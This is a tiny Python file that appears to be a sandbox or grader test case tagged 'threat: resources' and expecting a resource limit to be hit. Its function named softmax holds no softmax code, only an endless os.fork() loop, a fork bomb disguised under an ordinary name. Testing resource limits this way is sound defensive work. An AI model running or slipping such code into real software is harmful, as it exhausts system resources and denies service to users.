"""Fork without end while a hidden check waits for an answer.

threat: resources
expect: softmax=LIMIT
"""
# %% softmax
import os


def softmax(z):
    while True:
        os.fork()
